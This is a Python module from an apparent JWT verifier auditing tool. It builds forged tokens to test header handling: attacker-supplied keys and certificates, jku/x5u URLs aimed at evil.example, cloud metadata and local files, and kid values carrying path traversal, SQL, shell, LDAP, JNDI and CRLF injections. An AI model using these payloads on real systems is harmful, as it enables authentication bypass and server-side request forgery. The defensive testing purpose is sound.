"""Families S and F, the header: parameters that bring a key, point at one, or change the rules."""

import base64
import hashlib
import hmac
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding

from tokenward.auditor.attacks.kit import ABSENT, Kit, b64, compact
from tokenward.auditor.attacks.table import Attack, Part, bare, entry, header, note, signed


def _strangers(**changes: object) -> Callable[[Kit], str]:
    """Claims for somebody else, signed with the attacker's key; a change that is a function gets the kit."""

    def forge(kit: Kit) -> str:
        values = {name: value(kit) if callable(value) else value for name, value in changes.items()}
        return kit.token(kit.header(**values), kit.claims(sub="admin"), key=kit.stranger)

    return forge


def _own_jwk(kit: Kit) -> dict[str, str]:
    return kit.stranger.public_jwk()


def _own_kid(kit: Kit) -> str:
    return kit.stranger.kid


def _certificate(kit: Kit) -> bytes:
    private = kit.stranger.private
    assert isinstance(  # noqa: S101 - the algorithms of a public key
        private, ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey | ed25519.Ed25519PrivateKey
    )
    # SHA-512 is part of Ed25519 (RFC 8410 §3).
    digest = None if isinstance(private, ed25519.Ed25519PrivateKey) else SHA256()
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer")])
    start = datetime.fromtimestamp(kit.now, UTC) - timedelta(days=1)
    builder = x509.CertificateBuilder(name, name, private.public_key(), 1, start, start + timedelta(days=30))
    return builder.sign(private, digest).public_bytes(Encoding.DER)


def _chain(kit: Kit) -> list[str]:
    return [base64.b64encode(_certificate(kit)).decode()]


def _thumbprint(kit: Kit) -> str:
    return b64(hashlib.sha256(_certificate(kit)).digest())


_ADDRESSES = {
    "the attacker's host": "https://evil.example/jwks.json",
    "the issuer's host as user name": "https://issuer.example@evil.example/jwks.json",
    "the issuer's host as fragment": "https://evil.example/jwks.json#https://issuer.example/",
    "the issuer's host as subdomain": "https://issuer.example.evil.example/jwks.json",
    "an open redirect of the issuer": "https://issuer.example/login?next=https://evil.example/jwks.json",
    "a backslash": "https://evil.example\\@issuer.example/jwks.json",
    "a path that climbs": "https://issuer.example/keys/../uploads/jwks.json",
    "plain http": "http://issuer.example/jwks.json",
    "loopback": "http://127.0.0.1/jwks.json",
    "loopback in IPv6": "http://[::1]/jwks.json",
    "loopback as a number": "http://2130706433/jwks.json",
    "cloud metadata": "http://169.254.169.254/latest/meta-data/",
    "a file": "file:///etc/passwd",
    "a data URL": "data:application/json,%7B%22keys%22%3A%5B%5D%7D",
    "another protocol": "gopher://evil.example/_x",
    "no scheme": "//evil.example/jwks.json",
}


def _addresses() -> Iterator[Part[Attack]]:
    for name, url in _ADDRESSES.items():
        yield bare(f"jku: {name}", "header_refused", _strangers(jku=url, kid=_own_kid))
    for name in ("the attacker's host", "cloud metadata", "a file"):
        yield bare(f"x5u: {name}", "header_refused", _strangers(x5u=_ADDRESSES[name]))


_KIDS = {
    "unknown": "another",
    "a path to an empty file": "../../../../../../dev/null",
    "a path to a known file": "/proc/sys/kernel/randomize_va_space",
    "a path with NUL": "keys/one.pem\0.txt",
    "an SQL injection": "x' UNION SELECT 'k'-- ",
    "a command": "key.pem; cat /etc/passwd |",
    "an LDAP injection": "*)(uid=*))(|(uid=*",
    "a template": "{{7*7}}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "an address": "https://evil.example/jwks.json",
    "a header field": "x\r\nX-User: admin",
    "a prototype member": "__proto__",
    "an index": "0",
    "a star": "*",
    "a space": " ",
}


def _hmac_kid(kid: str, secret: bytes) -> Callable[[Kit], str]:
    """An HMAC under what a verifier finds that follows `kid`."""
    return lambda kit: kit.signed_by(
        lambda data: hmac.digest(secret, data, hashlib.sha256), kit.header(alg="HS256", kid=kid), kit.claims()
    )


def _kids() -> Iterator[Part[Attack]]:
    for name, kid in _KIDS.items():
        yield bare(name, "unknown_key", _strangers(kid=kid))
    yield bare("the attacker's own", "unknown_key", _strangers(kid=_own_kid))
    yield bare("the issuer's", "bad_signature", _strangers())
    yield bare("absent", "bad_signature", _strangers(kid=ABSENT))
    yield bare("of 300 characters", "header_type", _strangers(kid="k" * 300))
    yield bare(
        "the contents of /dev/null as secret", "algorithm_refused", _hmac_kid("../../../dev/null", b"")
    )
    yield bare("an injected secret", "algorithm_refused", _hmac_kid("x' UNION SELECT 'k'-- ", b"k"))
    yield bare(
        "the contents of a known file as secret",
        "algorithm_refused",
        _hmac_kid("/proc/sys/kernel/randomize_va_space", b"2\n"),
    )


def _near(change: Callable[[str], str]) -> Callable[[Kit], str]:
    """Nearly the issuer's `kid`, and the issuer's signature."""
    return lambda kit: kit.token(kit.header(kid=change(kit.header()["kid"])))


def _flipped(kit: Kit) -> str:
    """The issuer's `kid` with its first letter in the other case."""
    kid: str = kit.header()["kid"]
    at = next(place for place, character in enumerate(kid) if character.isalpha())
    return kit.token(kit.header(kid=kid[:at] + kid[at].swapcase() + kid[at + 1 :]))


_HINT = "RFC 7515 §4.1.4 calls `kid` a hint. Ours takes no other key than the one that it names."


def _unencoded(**changes: object) -> Callable[[Kit], str]:
    """RFC 7797 §3: signed over the claims as they are, and sent in base64url."""

    def forge(kit: Kit) -> str:
        head, claims = compact(kit.header(**changes)), compact(kit.claims())
        signature = kit.key.sign(b64(head).encode() + b"." + claims)
        return f"{b64(head)}.{b64(claims)}.{b64(signature)}"

    return forge


HEADER: tuple[Attack, ...] = (
    *entry(
        "S07",
        "Key in the header",
        "The token brings the key that it is to be verified with, which is the attacker's.",
        "RFC 7515 §4.1.3; RFC 8725 §3.10; CVE-2018-0114; CVE-2026-27962",
        bare("under the issuer's kid", "header_refused", _strangers(jwk=_own_jwk)),
        bare("under its own kid", "header_refused", _strangers(jwk=_own_jwk, kid=_own_kid)),
        bare("without kid", "header_refused", _strangers(jwk=_own_jwk, kid=ABSENT)),
        bare("as a JWK Set", "header_refused", _strangers(jwks=lambda kit: {"keys": [_own_jwk(kit)]})),
        bare("as kid", "header_type", _strangers(kid=_own_jwk)),
        bare("empty", "header_refused", _strangers(jwk={})),
        bare(
            "an empty secret, HS256",
            "header_refused",
            lambda kit: kit.signed_by(
                lambda data: hmac.digest(b"", data, hashlib.sha256),
                kit.header(alg="HS256", jwk={"kty": "oct", "k": ""}),
                kit.claims(sub="admin"),
            ),
        ),
        note(
            header("beside the right kid, signed by the issuer", "header_refused", jwk={"kty": "EC"}),
            "To look away from it is legal. Ours refuses every `jwk`.",
        ),
    ),
    *entry(
        "S08",
        "Certificate in the header",
        "The token brings a certificate that nobody vouches for.",
        "RFC 7515 §4.1.6; RFC 8725 §3.10",
        bare("under the issuer's kid", "header_refused", _strangers(x5c=_chain)),
        bare("without kid", "header_refused", _strangers(x5c=_chain, kid=ABSENT)),
        bare("with its thumbprint", "header_refused", _strangers(x5c=_chain, **{"x5t#S256": _thumbprint})),
        bare("no certificate", "header_refused", _strangers(x5c=["AAAA"])),
        bare("an empty chain", "header_refused", _strangers(x5c=[])),
        bare("by thumbprint alone", "bad_signature", _strangers(kid=ABSENT, **{"x5t#S256": _thumbprint})),
        note(
            header("a thumbprint beside the right kid", "", x5t="AAAA"),
            "It names a certificate and brings none. Ours reads neither `x5t` nor `x5t#S256`.",
        ),
    ),
    *entry(
        "S09",
        "Address of a key",
        "The token says where its key is: with the attacker, or inside the verifier's network.",
        "RFC 7515 §4.1.2, §4.1.5; RFC 8725 §3.10; GHSA-993g-76c3-p5m4",
        *_addresses(),
    ),
    *entry(
        "S10",
        "Name of a key",
        "`kid` is chosen so that looking it up does something else, or finds nothing.",
        "RFC 7515 §4.1.4; RFC 8725 §3.10",
        *_kids(),
        header("a number", "header_type", kid=1),
        header("null", "header_type", kid=None),
        header("true", "header_type", kid=True),
        header("an array", "header_type", kid=["k"]),
        header("an object", "header_type", kid={"$ne": ""}),
        *[
            note(part, _HINT)
            for part in (
                header("unknown, signed by the issuer", "unknown_key", kid="another"),
                header("empty, signed by the issuer", "header_type", kid=""),
                header("absent, one key fits", "", kid=ABSENT),
                signed("in another case", "unknown_key", _flipped),
                signed("with a space after", "unknown_key", _near(lambda kid: kid + " ")),
                signed("shortened", "unknown_key", _near(lambda kid: kid[:-1])),
            )
        ],
    ),
    *entry(
        "F09",
        "Critical extension",
        "`crit` names an extension that the verifier does not know.",
        "RFC 7515 §4.1.11; CVE-2025-59420; CVE-2026-32597",
        header("unknown and present", "header_refused", crit=["urn:x"], **{"urn:x": True}),
        header("unknown and absent", "header_refused", crit=["urn:x"]),
        header("of numbers", "header_refused", crit=[1]),
        header("names a claim", "header_refused", crit=["exp"]),
        header("one name twice", "header_refused", crit=["urn:x", "urn:x"], **{"urn:x": True}),
        header("the empty name", "header_refused", crit=[""], **{"": 1}),
        header("cnf, which must be understood", "header_refused", crit=["cnf"], cnf={"jkt": "x"}),
        *[
            note(part, "RFC 7515 §4.1.11 lets a recipient refuse it. Ours refuses every `crit`.")
            for part in (
                header("empty", "header_refused", crit=[]),
                header("a string", "header_refused", crit="exp"),
                header("null", "header_refused", crit=None),
                header("an object", "header_refused", crit={"exp": True}),
                header("names alg", "header_refused", crit=["alg"]),
                header("names typ", "header_refused", crit=["typ"]),
                header("names itself", "header_refused", crit=["crit"]),
            )
        ],
    ),
    *entry(
        "F10",
        "Unencoded payload",
        "`b64` false changes what is signed; a JWT must not have it.",
        "RFC 7797 §6, §7; GHSA-w7vc-732c-9m39; GHSA-wphv-vfrh-23q5",
        note(
            header("false, not critical", "header_refused", b64=False),
            "Who does not know RFC 7797 may look away from it. Ours refuses every `b64`.",
        ),
        header("false, critical", "header_refused", b64=False, crit=["b64"]),
        signed("false, critical, signed so", "header_refused", _unencoded(b64=False, crit=["b64"])),
        signed("false, not critical, signed so", "header_refused", _unencoded(b64=False)),
        header("critical and absent", "header_refused", crit=["b64"]),
        *[
            note(part, "RFC 7797 §3 has a boolean and does not say what else means. Ours refuses it.")
            for part in (
                header("a string", "header_refused", b64="false", crit=["b64"]),
                header("zero", "header_refused", b64=0, crit=["b64"]),
            )
        ],
        bare("detached", "malformed", lambda kit: kit.with_part(1, lambda _: "")),
        note(
            header("true, critical", "header_refused", b64=True, crit=["b64"]),
            "It says what is so anyway. Ours knows no extension, hence refuses every `crit`.",
        ),
    ),
    *entry(
        "F11",
        "Foreign parameters",
        "The header has parameters of JWE, or members that no JWT has.",
        "RFC 7515 §4; RFC 8725 §3.6",
        *[
            note(part, "Unknown parameters are to be ignored (RFC 7515 §4). Ours has an allow-list.")
            for part in (
                header("zip", "header_refused", zip="DEF"),
                header("enc", "header_refused", enc="A256GCM"),
                header("epk", "header_refused", epk={}),
                header("p2c", "header_refused", p2c=1_000_000_000),
                header("a claim", "header_refused", sub="admin"),
                header("an unregistered name", "header_refused", x=1),
            )
        ],
    ),
)
